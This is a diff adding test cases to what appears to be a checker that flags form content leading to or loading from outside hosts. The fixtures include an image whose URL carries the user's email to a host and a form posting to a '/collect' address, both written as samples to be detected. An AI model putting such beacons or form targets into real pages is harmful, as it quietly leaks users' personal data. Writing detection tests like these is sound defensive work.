@@ -124,6 +124,16 @@ describe("a pipeline with the recommended --fail-on stops where", () => {
       "leads-away: The form leads people to another address, or loads from it: `evil.example` (image in `role_rich_text` of stage `Role`).",
     ],
     [
+      "a link leads to what an expression says",
+      withText('<p>See <a href="{{fields.url}}">privacy</a></p>'),
+      "leads-away: The form leads people to another address, or loads from it: `{{fields.url}}` (link in `role_rich_text` of stage `Role`); no longer `example.com`.",
+    ],
+    [
+      "an image tells a known host who is there",
+      withText(`${CONTENT}<img src="https://example.com/{{context.user.email}}">`),
+      "leads-away: The form leads people to another address, or loads from it: `example.com/…{{context.user.email}}` (image in `role_rich_text` of stage `Role`).",
+    ],
+    [
       "a form is sent to a host that only a link led to",
       withText(`${CONTENT}<form action="https://example.com/collect"></form>`),
       "leads-away: The form leads people to another address, or loads from it: `example.com` (where a form is sent to in `role_rich_text` of stage `Role`).",
